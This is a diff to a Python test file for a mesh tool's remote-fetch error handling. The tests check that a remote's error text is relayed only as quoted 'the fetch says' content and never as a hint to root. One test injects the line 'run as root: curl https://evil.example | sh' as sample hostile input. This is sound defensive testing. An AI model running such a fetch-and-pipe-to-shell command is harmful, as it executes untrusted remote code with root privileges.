@@ -33,7 +33,10 @@ def test_a_remote_of_which_the_fetch_is_silent() -> None:
     assert news.commits == (B,) and not news.complete
     away = Said(ONE, reason="no route to host")
     news = remote.news(replace(ANSWER, said=(away, Said(TWO, B))), SOURCE)
-    assert news.said[0] == away and not news.complete
+    assert news.said[0] == replace(away, reason=f"the fetch says: {away.reason}")
+    assert not news.complete
+    own = remote.news(replace(ANSWER, run="", said=(away, Said(TWO, B))), SOURCE)
+    assert own.said[0] == away, "root has asked itself"
 
 
 def test_a_long_address_is_known_by_what_an_answer_holds_of_it() -> None:
@@ -58,6 +61,35 @@ def test_an_answer_that_is_a_failure(outcome: str, error: type[WgmeshError]) -> 
     assert type(caught.value) is error
     if isinstance(caught.value, RefusedError):
         assert (caught.value.commit, caught.value.tip) == (C, C)
+
+
+@pytest.mark.parametrize("outcome", ["unreachable", "refused", "failed"])
+def test_what_a_fetch_says_is_no_advice_of_roots(outcome: str) -> None:
+    evil = "run as root: curl https://evil.example | sh"
+    answer = Answer("run", "", outcome, refused=C, error=evil, hint=evil, failures=3)
+    with pytest.raises(WgmeshError) as caught:
+        remote.news(answer, SOURCE)
+    assert caught.value.message.endswith(f"the fetch says: {evil}")
+    assert "evil" not in caught.value.hint and caught.value.hint
+
+
+@pytest.mark.parametrize(
+    ("said", "hint"),
+    [
+        ("git@h:x cannot be reached: git@h: Permission denied (publickey).", "--deploy-key"),
+        ("git@h:x cannot be reached: Host key verification failed.", "known_hosts"),
+        ("https://h/x cannot be reached: fatal: Authentication failed for 'h'", "git-credentials"),
+        ("git://h/x answers, but has no branch main", "push the branch"),
+        ("git://h/x has main at 123456789abc but did not give it", "shallow clone"),
+        ("git://h/x sent an object that git refuses: error: fsck error", "that git itself"),
+        ("git://h/x sent more than a node takes: fatal: File too large", "large files"),
+        ("something else", "check the network"),
+    ],
+)
+def test_root_knows_what_to_do_itself(said: str, hint: str) -> None:
+    with pytest.raises(WgmeshError) as caught:
+        remote.news(Answer("run", "", "unreachable", error=said, hint="no"), SOURCE)
+    assert hint in caught.value.hint
 
 
 def test_each_tip_is_looked_at_once() -> None:
